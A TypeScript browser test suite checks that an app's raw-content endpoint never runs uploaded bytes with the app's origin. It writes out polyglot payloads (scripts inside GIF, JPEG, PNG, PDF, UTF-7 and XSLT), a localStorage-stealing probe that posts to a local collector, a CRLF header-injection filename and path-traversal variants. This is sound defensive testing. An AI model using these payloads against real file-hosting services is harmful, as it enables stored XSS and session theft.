/**
 * Held bytes that pretend to be another kind of thing than they are, so that a browser might run what is in them. Opened alone,
 * under an enticing name: what is a document runs apart from the app, and everything else does not run at all.
 */

import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { useChromium } from '../helpers/chromium.ts'
import { ask } from '../helpers/gateway.ts'
import { type NodeProcess, startNodeProcess } from '../helpers/node-process.ts'
import { type Collector, startCollector } from './collector.ts'
import { holdAt } from './hostile-content.ts'

let node: NodeProcess
let collector: Collector
beforeAll(async () => {
  node = await startNodeProcess()
  collector = await startCollector()
})
afterAll(async () => {
  await Promise.all([node?.kill('SIGKILL'), collector?.stop()])
})
const chromium = useChromium()

/** Reports the app's storage before the page has loaded. Without any character that XML would have to escape. */
const scriptOf = (name: string) => `
  let got = null
  try { got = localStorage.getItem('canary') } catch {}
  const request = new XMLHttpRequest()
  request.open('POST', '${collector.url}/report', false)
  request.send(JSON.stringify({ scene: 'disguises', probe: '${name}', got, error: self.origin }))
`
const htmlOf = (name: string) => `<script>${scriptOf(name)}</script>`
const latin = (text: string) => Buffer.from(text, 'latin1')

type Disguise = [name: string, type: string, bytes: (name: string) => string | Buffer]

const DOCUMENTS: Disguise[] = [
  ['a page', 'text/html; charset=utf-8', (name) => `<!doctype html>${htmlOf(name)}`],
  ['a page after a byte order mark', 'text/html; charset=utf-8', (name) => `\ufeff<html>${htmlOf(name)}`],
  ['a page after a comment', 'text/html; charset=utf-8', (name) => `<!-- GIF89a -->${htmlOf(name)}`],
  ['a script element alone', 'text/html; charset=utf-8', htmlOf],
  ['SVG', 'image/svg+xml; charset=utf-8', (name) => `<svg xmlns="http://www.w3.org/2000/svg">${htmlOf(name)}</svg>`],
  [
    'SVG with a page in it',
    'image/svg+xml; charset=utf-8',
    (name) =>
      `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${htmlOf(name)}</body></foreignObject></svg>`,
  ],
  [
    'XHTML',
    'application/xhtml+xml; charset=utf-8',
    (name) => `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${htmlOf(name)}</html>`,
  ],
  [
    'XML with a script',
    'application/xml; charset=utf-8',
    (name) => `<?xml version="1.0"?><x><script xmlns="http://www.w3.org/1999/xhtml">${scriptOf(name)}</script></x>`,
  ],
]

const OTHERS: Disguise[] = [
  ['a page behind a few words', 'text/plain; charset=utf-8', (name) => `words <html>${htmlOf(name)}`],
  ['a page behind many words', 'text/plain; charset=utf-8', (name) => `${'words '.repeat(500)}<html>${htmlOf(name)}`],
  ['a page behind BM', 'text/plain; charset=utf-8', (name) => `BM<html>${htmlOf(name)}`],
  ['a page behind GIF89a', 'text/plain; charset=utf-8', (name) => `GIF89a/*<html>${htmlOf(name)}*/`],
  ['a page inside a GIF', 'image/gif', (name) => latin(`GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff!\xfe${htmlOf(name)};`)],
  ['a page inside a JPEG', 'image/jpeg', (name) => latin(`\xff\xd8\xff\xe0\x00\x10JFIF\x00\xff\xfe<html>${htmlOf(name)}`)],
  ['a page inside a PNG', 'image/png', (name) => latin(`\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR<html>${htmlOf(name)}`)],
  ['a page inside a PDF', 'application/pdf', (name) => `%PDF-1.7\n<html>${htmlOf(name)}`],
  ['a page behind a ZIP', 'application/zip', (name) => latin(`PK\x03\x04\x14\x00\x00\x00<html>${htmlOf(name)}`)],
  ['a page inside MP4', 'video/mp4', (name) => latin(`\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom<html>${htmlOf(name)}`)],
  ['a page behind NUL', 'application/octet-stream', (name) => `\0<html>${htmlOf(name)}`],
  ['a page in UTF-7', 'text/plain; charset=utf-8', (name) => htmlOf(name).replaceAll('<', '+ADw-').replaceAll('>', '+AD4-')],
  ['a page in UTF-16 with its mark', 'application/octet-stream', (name) => Buffer.from(`\ufeff<html>${htmlOf(name)}`, 'utf16le')],
  ['a page in UTF-16', 'application/octet-stream', (name) => Buffer.from(`<html>${htmlOf(name)}`, 'utf16le')],
  ['a page in ISO-2022-JP', 'text/plain; charset=utf-8', (name) => `\x1b$B\x1b(B<html>${htmlOf(name)}`],
  [
    'an archive of a page',
    'text/plain; charset=utf-8',
    (name) =>
      `From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${htmlOf(name)}\r\n--b--`,
  ],
  ['a whole answer', 'text/plain; charset=utf-8', (name) => `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n${htmlOf(name)}`],
  ['a script', 'text/plain; charset=utf-8', scriptOf],
  ['JSON', 'text/plain; charset=utf-8', (name) => JSON.stringify({ html: htmlOf(name) })],
  ['a style sheet', 'text/plain; charset=utf-8', (name) => `/*${htmlOf(name)}*/ body { color: red }`],
]

/** A browser in which the app keeps something. */
async function createVisitor(): Promise<Page> {
  const page = await chromium.newPage()
  await page.goto(node.url)
  await page.evaluate(() => localStorage.setItem('canary', 'secret'))
  return page
}

/** Opens the content alone, under a name that says HTML. Returns its type; a browser saves other types instead. */
async function openAlone(page: Page, hash: string): Promise<string | undefined> {
  const address = `${node.url}/raw/${hash}?filename=page.html`
  const answered = page.waitForResponse(address)
  await page.goto(address).catch((error: Error) => {
    if (!/Download is starting|ERR_ABORTED/.test(error.message)) throw error
  })
  return (await answered).headers()['content-type']
}

/** Origin of each run, and the data that it got. */
function runsOf(name: string): { got: string | null; origin: string | null }[] {
  const reports = collector.reports('disguises').filter(({ probe }) => probe === name)
  return reports.map(({ got, error }) => ({ got, origin: error }))
}

/** Opens each disguise; resolves with the type that the browser took it for, and the origin it ran in. */
async function uncover(disguises: readonly Disguise[]) {
  const page = await createVisitor()
  const found: { name: string; type: string | undefined; runs: ReturnType<typeof runsOf> }[] = []
  for (const [name, , bytes] of disguises) {
    const type = await openAlone(page, await holdAt(node, new Uint8Array(Buffer.from(bytes(name)))))
    found.push({ name, type, runs: runsOf(name) })
  }
  return found
}

describe('disguises', () => {
  test('a document runs, and has no origin', async () => {
    const run = { got: null, origin: 'null' }
    expect(await uncover(DOCUMENTS)).toEqual(DOCUMENTS.map(([name, type]) => ({ name, type, runs: [run] })))
  })

  test('content of any other type does not run', async () => {
    expect(await uncover(OTHERS)).toEqual(OTHERS.map(([name, type]) => ({ name, type, runs: [] })))
  })

  test('a style sheet of XML: makes no page that runs with an origin', async () => {
    const page = await createVisitor()
    const made = `<html xmlns="http://www.w3.org/1999/xhtml">${htmlOf('made')}</html>`
    const rules = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${made}</xsl:template></xsl:stylesheet>`
    const sheet = `<?xml version="1.0"?>${rules}`
    const href = `/raw/${await holdAt(node, sheet)}`
    await openAlone(page, await holdAt(node, `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${href}"?><x/>`))
    const inline = `data:text/xml,${encodeURIComponent(rules)}`
    await openAlone(page, await holdAt(node, `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${inline}"?><x/>`))
    // Browsers that still transform run it; they must do so apart from the app.
    expect(runsOf('made').filter(({ got, origin }) => got !== null || origin !== 'null')).toEqual([])
  })

  test('a name: adds no header, no cookie and no type', async () => {
    const page = await createVisitor()
    const hash = await holdAt(node, `<!doctype html>${htmlOf('named')}`)
    const injected = encodeURIComponent(
      'a.html"\r\nSet-Cookie: hostile=here\r\nContent-Security-Policy: sandbox allow-same-origin\r\n\r\n<b>',
    )
    for (const query of [`?filename=${injected}`, `?download=0&filename=${injected}`, `?filename=a&filename=${injected}`, `?${injected}`]) {
      const response = await page.goto(`${node.url}/raw/${hash}${query}`)
      expect(response?.headers()['content-security-policy']).not.toContain('allow-same-origin')
    }
    expect(await page.context().cookies()).toEqual([])
    expect(runsOf('named')).toEqual(Array(4).fill({ got: null, origin: 'null' }))
  })

  test('a path: no other way to write the address serves the page', async () => {
    const hash = await holdAt(node, `<!doctype html>${htmlOf('addressed')}`)
    const paths = `/${hash}.html /raw/${hash}.html /raw/${hash}/index.html /raw/${hash};index.html //${hash} /raw//${hash} /%2e/raw/${hash}
      /assets/../raw/${hash} /assets/${hash} /assets/..%2fraw%2f${hash} /raw/%${hash} /RAW/${hash} /raw/${hash.toUpperCase()} /raw/${hash}%00.html
      /api/v1/content/${hash} /index.html/raw/${hash}`.split(/\s+/)
    for (const path of paths) {
      const { status } = await ask(node.port, path, { headers: { accept: 'text/html', 'sec-fetch-dest': 'document' } })
      expect(`${path} ${status}`).not.toMatch(/ 20\d$/)
    }
    expect(runsOf('addressed')).toEqual([])
  })
})
